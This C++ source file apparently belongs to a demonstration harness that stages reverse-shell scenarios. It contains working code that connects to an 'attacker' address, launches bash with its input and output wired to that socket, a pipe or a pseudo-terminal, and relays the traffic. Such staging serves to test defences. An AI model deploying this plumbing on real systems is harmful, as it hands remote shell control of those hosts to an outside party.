#include "demo/actors.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstdlib>
#include <functional>
#include <sstream>
#include <stdexcept>

#include "demo/network.h"
#include "host/base/descriptor.h"

namespace Host {
namespace {

constexpr int firstSpare = 100;
constexpr int pastSpare = 200;

[[noreturn]] void FailWithErrno(const std::string& what) {
    FailStaging(what + ": " + ErrorText(errno));
}

int Checked(int result, const char* what) {
    if (result < 0) {
        FailWithErrno(what);
    }
    return result;
}

// Starts a process that is killed when this one ends, and returns once become has executed a program or closed its
// argument report. become returns only on failure, with errno set.
pid_t Start(const std::string& what, const std::function<void(int report)>& become) {
    int ends[2];
    Checked(::pipe2(ends, O_CLOEXEC), "pipe");
    const pid_t parent = ::getpid();
    const pid_t child = Checked(::fork(), "fork");
    if (child == 0) {
        const int report = ::fcntl(ends[1], F_DUPFD_CLOEXEC, pastSpare);
        ::prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
        if (::getppid() != parent) {
            ::_exit(1);
        }
        become(report);
        const int number = errno;
        WriteAll(report, ErrorText(number));
        ::_exit(1);
    }
    ::close(ends[1]);
    char failure[128];
    const ssize_t count = ::read(ends[0], failure, sizeof(failure));
    ::close(ends[0]);
    if (count > 0) {
        FailStaging(what + ": " + std::string(failure, static_cast<size_t>(count)));
    }
    return child;
}

void Exec(const std::string& program, const std::vector<std::string>& words) {
    std::vector<char*> pointers;
    pointers.reserve(words.size() + 1);
    for (const std::string& word : words) {
        pointers.push_back(const_cast<char*>(word.c_str()));
    }
    pointers.push_back(nullptr);
    ::execvp(program.c_str(), pointers.data());
}

std::vector<std::string> ShellWords(const std::string& program, const std::vector<std::string>& arguments) {
    std::vector<std::string> words{program.substr(program.rfind('/') + 1), "--norc", "--noprofile"};
    words.insert(words.end(), arguments.begin(), arguments.end());
    return words;
}

bool Copy(int from, int to) {
    char block[4096];
    ssize_t count = 0;
    do {
        count = ::read(from, block, sizeof(block));
    } while (count < 0 && errno == EINTR);
    return count > 0 && WriteAll(to, std::string_view(block, static_cast<size_t>(count))).error == 0;
}

}  // namespace

void FailStaging(const std::string& what) {
    throw std::runtime_error(what);
}

int ConnectToAttacker(const Scenario& scenario) {
    const int connection = Checked(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), "socket");
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_port = htons(PortOf(scenario));
    ::inet_pton(AF_INET, attackerAddress, &address.sin_addr);
    Checked(::connect(connection, reinterpret_cast<const sockaddr*>(&address), sizeof(address)),
            "connection to the attacker");
    return connection;
}

Ends MakeAnonymousPipe() {
    int ends[2];
    Checked(::pipe2(ends, O_CLOEXEC), "pipe");
    return {ends[0], ends[1]};
}

Ends MakeNamedPipe(const std::string& path) {
    Checked(::mkfifo(path.c_str(), 0600), "mkfifo");
    // Opening one end alone would block until the other end is opened.
    const int both = Checked(::open(path.c_str(), O_RDWR | O_CLOEXEC), "named pipe");
    const Ends ends{Checked(::open(path.c_str(), O_RDONLY | O_CLOEXEC), "named pipe"),
                    Checked(::open(path.c_str(), O_WRONLY | O_CLOEXEC), "named pipe")};
    ::close(both);
    return ends;
}

Terminal MakeTerminal() {
    Terminal terminal{Checked(::posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC), "pseudo-terminal"), ""};
    char name[64];
    if (::grantpt(terminal.control) != 0 || ::unlockpt(terminal.control) != 0 ||
        ::ptsname_r(terminal.control, name, sizeof(name)) != 0) {
        FailWithErrno("pseudo-terminal");
    }
    terminal.name = name;
    return terminal;
}

void TakePlaces(const Placement& placement) {
    Placement wanted = placement;
    const int null = ::open("/dev/null", O_RDWR | O_CLOEXEC);
    for (const int standard : {STDIN_FILENO, STDOUT_FILENO, STDERR_FILENO}) {
        wanted.try_emplace(standard, null);
    }
    for (auto& [target, source] : wanted) {
        source = ::fcntl(source, F_DUPFD_CLOEXEC, firstSpare);
    }
    for (int fd = 0; fd < firstSpare; ++fd) {
        ::close(fd);
    }
    for (const auto& [target, source] : wanted) {
        ::dup2(source, target);
    }
    for (int fd = firstSpare; fd < pastSpare; ++fd) {
        ::close(fd);
    }
}

pid_t StartShell(const Placement& placement, const std::vector<std::string>& arguments, const std::string& program) {
    return Start(program, [&](int) {
        ::setsid();
        TakePlaces(placement);
        Exec(program, ShellWords(program, arguments));
    });
}

pid_t StartShellOnTerminal(const Terminal& terminal) {
    return Start("/bin/bash", [&](int) {
        ::setsid();
        const int side = ::open(terminal.name.c_str(), O_RDWR);
        if (side < 0 || ::ioctl(side, TIOCSCTTY, 0) != 0) {
            return;
        }
        TakePlaces({{0, side}, {1, side}, {2, side}});
        Exec("/bin/bash", ShellWords("/bin/bash", {}));
    });
}

pid_t StartPollingRelay(const Placement& placement, const Routes& routes) {
    return Start("relay", [&](int report) {
        TakePlaces(placement);
        ::close(report);
        RelayPolling(routes);
        ::_exit(0);
    });
}

pid_t StartWaitingRelay(const Placement& placement) {
    return Start("relay", [&](int report) {
        TakePlaces(placement);
        ::close(report);
        RelayWaiting();
        ::_exit(0);
    });
}

void RelayPolling(const Routes& routes) {
    for (;;) {
        std::vector<pollfd> polls;
        for (const auto& [from, to] : routes) {
            polls.push_back({.fd = from, .events = POLLIN, .revents = 0});
        }
        if (::poll(polls.data(), polls.size(), -1) < 0 && errno != EINTR) {
            return;
        }
        for (size_t i = 0; i < polls.size(); ++i) {
            if (polls[i].revents != 0 && !Copy(routes[i].first, routes[i].second)) {
                return;
            }
        }
    }
}

void RelayWaiting() {
    while (Copy(STDIN_FILENO, STDOUT_FILENO)) {
    }
}

void RunCommandLine(const std::string& line) {
    std::istringstream stream(line);
    std::vector<std::string> words;
    for (std::string word; stream >> word;) {
        words.push_back(word);
    }
    if (words.empty()) {
        return;
    }
    const pid_t child = Start(words.front(), [&](int) {
        TakePlaces({});
        Exec(words.front(), words);
    });
    while (::waitpid(child, nullptr, 0) < 0 && errno == EINTR) {
    }
}

}  // namespace Host
